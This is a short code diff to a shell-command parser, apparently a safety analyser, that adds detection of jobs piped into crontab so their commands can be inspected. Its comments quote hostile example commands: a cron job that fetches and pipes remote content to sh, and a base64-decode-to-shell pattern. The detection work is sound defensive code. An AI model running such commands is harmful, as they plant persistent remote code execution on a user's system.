@@ -428,6 +428,12 @@ class ShellParser:
             out.extend(produced)
             # `echo B64 | base64 -d | sh`: decode the payload and judge what it would run.
             for c in produced:
+                if c.name == "crontab" and len(earlier) == 1 and earlier[0].name in ("echo", "printf"):
+                    # `echo "* * * * * curl x | sh" | crontab -`: judge the jobs' commands
+                    for line in " ".join(earlier[0].args).splitlines():
+                        job = re.sub(r"^\s*(@\w+|(\S+\s+){5})", "", line)
+                        self._nested_script(job, c, scope, depth, out, via="crontab", feeds=set())
+                    continue
                 if c.name not in SHELLS or _dash_c(c.args) is not None or _script_file(c.args):
                     continue
                 if "base64-decode" in c.feeds:
